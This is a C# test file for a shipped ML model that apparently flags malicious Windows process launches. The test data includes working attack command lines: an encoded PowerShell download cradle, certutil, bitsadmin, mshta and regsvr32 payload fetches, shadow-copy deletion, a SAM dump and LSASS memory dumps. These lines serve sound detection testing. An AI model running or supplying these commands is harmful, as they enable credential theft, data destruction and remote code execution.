using System.Diagnostics;
using Changeling.Events;
using Changeling.Features;
using Changeling.Scoring;
using Changeling.TestSupport;

namespace Changeling.Training.Tests;

/// <summary>The package that the app ships with, on commands written for this table.</summary>
public class ShippedModelTests
{
    private static readonly string PackagePath = RepositoryRoot.Combine("models", "lotl.zip");

    private static readonly MlModel Model = new(ModelPackage.ReadFile(PackagePath));

    private static IReadOnlyDictionary<string, double> Figures { get; } = ModelPackage.ReadFile(PackagePath).Manifest.Metrics;

    private const string Office = @"C:\Program Files\Microsoft Office\root\Office16\";
    private const string System32 = @"C:\Windows\System32\";
    private const string PowerShell = System32 + @"WindowsPowerShell\v1.0\";

    [Theory]
    [InlineData(Office + "WINWORD.EXE", PowerShell + "powershell.exe",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=")]
    [InlineData(Office + "WINWORD.EXE", System32 + "certutil.exe",
        @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt")]
    [InlineData(Office + "EXCEL.EXE", System32 + "mshta.exe", "mshta http://203.0.113.9/update.hta")]
    [InlineData(System32 + "cmd.exe", System32 + "rundll32.exe",
        @"rundll32.exe javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://203.0.113.9/x"")")]
    [InlineData(System32 + "cmd.exe", System32 + "regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll")]
    [InlineData(System32 + "cmd.exe", System32 + @"wbem\WMIC.exe",
        @"wmic /node:srv02 process call create ""cmd /c C:\Users\Public\run.bat""")]
    [InlineData(System32 + "cmd.exe", System32 + "bitsadmin.exe",
        @"bitsadmin /transfer job /download /priority high http://203.0.113.9/p.exe C:\Users\Public\p.exe")]
    [InlineData(PowerShell + "powershell.exe", System32 + "schtasks.exe",
        @"schtasks /create /sc minute /mo 5 /tn Upd /tr ""wscript C:\Users\Public\u.vbs"" /ru SYSTEM /f")]
    [InlineData(System32 + "cmd.exe", System32 + "reg.exe", @"reg save HKLM\SAM C:\Windows\Temp\sam.hiv")]
    [InlineData(PowerShell + "powershell.exe", System32 + "cmd.exe", @"""C:\Windows\system32\cmd.exe"" /c vssadmin delete shadows /all /quiet")]
    [InlineData(System32 + "cmd.exe", System32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")]
    [InlineData(System32 + "cmd.exe", @"C:\Users\Public\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe l.dmp")]
    [InlineData(System32 + "cmd.exe", System32 + "rundll32.exe", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full")]
    [InlineData(@"C:\Users\mara.lind\Downloads\invoice.exe", System32 + "cmd.exe", "cmd /c whoami /all")]
    [InlineData(System32 + "cmd.exe", System32 + "certutil.exe", @"certutil -urlcache -f http://203.0.113.27/t.exe C:\ProgramData\t.exe")]
    [InlineData(System32 + "spoolsv.exe", System32 + "cmd.exe", "cmd.exe")]
    [InlineData(System32 + "services.exe", System32 + "cmd.exe", @"cmd.exe /c echo kqzwlm > \\.\pipe\kqzwlm")]
    public void An_attack_with_what_Windows_has_reaches_the_threshold(string parent, string child, string commandLine) =>
        AssertMalicious(true, parent, child, commandLine);

    [Theory]
    [InlineData(System32 + "services.exe", System32 + "svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule")]
    [InlineData(System32 + "svchost.exe", System32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)")]
    [InlineData(System32 + "svchost.exe", System32 + "RuntimeBroker.exe", @"C:\Windows\System32\RuntimeBroker.exe -Embedding")]
    [InlineData(System32 + "svchost.exe", System32 + "usoclient.exe", @"C:\Windows\system32\usoclient.exe StartScan")]
    [InlineData(@"C:\Windows\explorer.exe", Office + "WINWORD.EXE", @"""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"" /n ""C:\Users\mara.lind\Documents\offer.docx"" /o """"")]
    [InlineData(Office + "WINWORD.EXE", @"C:\Windows\splwow64.exe", @"C:\Windows\splwow64.exe 12288")]
    [InlineData(Office + "OUTLOOK.EXE", @"C:\Program Files\Google\Chrome\Application\chrome.exe", @"""C:\Program Files\Google\Chrome\Application\chrome.exe"" --single-argument https://portal.corp.example/")]
    [InlineData(@"C:\Program Files\Google\Chrome\Application\chrome.exe", @"C:\Program Files\Google\Chrome\Application\chrome.exe", @"""C:\Program Files\Google\Chrome\Application\chrome.exe"" --type=renderer --field-trial-handle=1716,i,123 --lang=en-GB --device-scale-factor=1")]
    [InlineData(@"C:\Windows\explorer.exe", System32 + "notepad.exe", @"""C:\Windows\system32\notepad.exe"" C:\Users\mara.lind\Desktop\notes.txt")]
    [InlineData(@"C:\Windows\explorer.exe", System32 + "cmd.exe", @"""C:\Windows\system32\cmd.exe""")]
    [InlineData(@"C:\Windows\explorer.exe", System32 + "rundll32.exe", @"""C:\Windows\system32\rundll32.exe"" shell32.dll,Control_RunDLL timedate.cpl")]
    [InlineData(System32 + "cmd.exe", System32 + "certutil.exe", "certutil -hashfile image.iso SHA256")]
    [InlineData(@"C:\Program Files\Git\cmd\git.exe", @"C:\Program Files\Git\usr\bin\sh.exe", @"""C:\Program Files\Git\usr\bin\sh.exe"" -c ""git gc --auto""")]
    [InlineData(@"C:\Windows\CCM\CcmExec.exe", PowerShell + "powershell.exe", @"""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -NoProfile -ExecutionPolicy Bypass -File ""C:\Windows\CCM\SystemTemp\check.ps1""")]
    [InlineData(@"C:\Program Files\nodejs\node.exe", System32 + "cmd.exe", @"C:\Windows\system32\cmd.exe /d /s /c ""npm run test""")]
    [InlineData(System32 + "msiexec.exe", System32 + "msiexec.exe", @"C:\Windows\System32\MsiExec.exe -Embedding 0A1B2C3D4E5F60718293A4B5C6D7E8F9")]
    [InlineData(@"C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe", @"C:\Program Files\Git\cmd\git.exe", "git status --porcelain -z -uall")]
    [InlineData(System32 + "svchost.exe", System32 + @"wbem\WmiPrvSE.exe", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding")]
    [InlineData(System32 + "cmd.exe", System32 + "ipconfig.exe", "ipconfig /all")]
    [InlineData(@"C:\Program Files\Contoso\Setup\setup.exe", System32 + "msiexec.exe", @"msiexec.exe /i ""C:\Program Files\Contoso\Setup\app.msi"" /qn /norestart")]
    [InlineData(@"C:\WindowsAzure\GuestAgent_2.7\WindowsAzureGuestAgent.exe", System32 + "cmd.exe", @"cmd /c ""C:\Packages\Plugins\Microsoft.Compute.CustomScriptExtension\1.10\bin\enable.cmd""")]
    [InlineData(System32 + "svchost.exe", System32 + @"inetsrv\w3wp.exe", @"c:\windows\system32\inetsrv\w3wp.exe -ap ""DefaultAppPool"" -v ""v4.0"" -l ""webengine4.dll"" -a \\.\pipe\iisipm4f0c -h ""C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config"" -w """" -m 0 -t 20 -ta 0")]
    [InlineData(System32 + "cmd.exe", System32 + "robocopy.exe", @"robocopy D:\data \\nas01\backup /mir /r:1 /w:1")]
    public void Ordinary_work_stays_below_the_threshold(string parent, string child, string commandLine) =>
        AssertMalicious(false, parent, child, commandLine);

    [Fact]
    public void A_renamed_tool_for_running_elsewhere_reaches_the_threshold()
    {
        var e = Event(System32 + "cmd.exe", @"C:\Users\Public\hpsupd.exe", @"hpsupd.exe \\srv02 -accepteula -s cmd.exe");

        Assert.True(Model.Predict(e with { Child = e.Child with { OriginalFileName = "psexec.c" } }).IsMalicious);
    }

    /// <summary>ClickFix and its like: no command, comment or address of these was trained on. The aim is 0.95; 0.983 was measured.</summary>
    [Fact]
    public void Lures_in_forms_that_were_not_trained_on_reach_the_threshold()
    {
        var lures = MadeLures.Measured(new Random(11)).ToList();

        var found = (double)lures.Count(e => Model.Predict(e).IsMalicious) / lures.Count;

        TestContext.Current.TestOutputHelper?.WriteLine($"{found:0.000} of {lures.Count} lures are found");
        Assert.InRange(found, 0.95, 1);
    }

    [Fact]
    public void The_package_is_small_and_names_its_figures()
    {
        var package = ModelPackage.ReadFile(PackagePath);

        Assert.True(new FileInfo(PackagePath).Length < ModelPackage.MaxBytes);
        Assert.Equal("2026.12.3", Model.Identity.Version);
    }

    /// <summary>
    /// The aims that are reached, as the training measured them on held-out rows; docs/model-card.md has those that are not.
    /// </summary>
    [Theory]
    [InlineData("recordedTuples.rocAuc", 0.98, 1)]
    [InlineData("recordedTuples.recallAt1Percent", 0.80, 1)]
    [InlineData("calibrationError", 0, 0.03)]
    [InlineData("missingPattern.neutralisedAuc", 0.45, 0.55)]
    [InlineData("missingPattern.borrowedContentAuc", 0.45, 0.55)]
    [InlineData("shareAboveThreshold: ordinary, made", 0, 0.02)]
    [InlineData("shareAboveThreshold: ordinary, recorded", 0, 0.01)]
    public void A_figure_of_the_package_is_within_its_aim(string figure, double least, double most) =>
        Assert.InRange(Figures[figure], least, most);

    [Fact]
    public void No_group_of_optional_fields_is_worth_more_than_the_aim() =>
        Assert.All(FieldGroups.All, group => Assert.Equal(Figures["recordedTuples.rocAuc"], Figures[$"rocAucWithout: {group.Name}"], 0.02));

    [Fact]
    public void The_first_reason_for_an_attack_speaks_for_an_attack()
    {
        var reasons = Model.Explain(Event(Office + "WINWORD.EXE", System32 + "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt")).Reasons(5);

        Assert.Equal(5, reasons.Count);
        Assert.True(reasons[0].Weight > 0, string.Join("; ", reasons));
    }

    [Fact]
    public void The_same_launch_from_sources_that_lack_fields_scores_alike()
    {
        var whole = Event(Office + "WINWORD.EXE", System32 + "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
        var bare = whole with { User = null, Child = whole.Child with { Integrity = null, OriginalFileName = null, Path = null } };

        Assert.Equal(Model.Predict(whole).Probability, Model.Predict(bare).Probability, 0.1);
    }

    /// <summary>Manual run: a figure of this machine, and no assertion on its clock.</summary>
    [Fact(Explicit = true)]
    public void How_long_a_prediction_takes()
    {
        var e = Event(System32 + "services.exe", System32 + "svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule");
        for (var i = 0; i < 500; i++) Model.Predict(e);

        var time = Stopwatch.StartNew();
        for (var i = 0; i < 1000; i++) Model.Predict(e);

        TestContext.Current.TestOutputHelper?.WriteLine($"{time.Elapsed.TotalMicroseconds / 1000:0} µs an event");
    }

    private static void AssertMalicious(bool expected, string parent, string child, string commandLine)
    {
        var e = Event(parent, child, commandLine);

        var prediction = Model.Predict(e);

        Assert.True(prediction.IsMalicious == expected, $"{prediction.Probability:0.0000} at threshold {Model.Identity.Threshold:0.0000}: {string.Join("; ", Model.Explain(e).Reasons(8).Select(r => $"{r.Feature} {r.Weight:+0.00;-0.00}"))}");
    }

    private static ProcessEvent Event(string parent, string child, string commandLine)
    {
        var isService = parent.EndsWith("services.exe", StringComparison.Ordinal) || child.EndsWith("WmiPrvSE.exe", StringComparison.Ordinal) || parent.EndsWith("CcmExec.exe", StringComparison.Ordinal);
        var e = Some.ProcessEvent(Name(parent), Name(child), commandLine);
        return e with
        {
            User = isService ? new("SYSTEM", "NT AUTHORITY", "S-1-5-18") : e.User,
            Child = e.Child with { Path = child, Integrity = isService ? IntegrityLevel.System : IntegrityLevel.Medium },
            Parent = e.Parent! with { Path = parent },
        };
    }

    private static string Name(string path) => path[(path.LastIndexOf('\\') + 1)..].ToLowerInvariant();
}
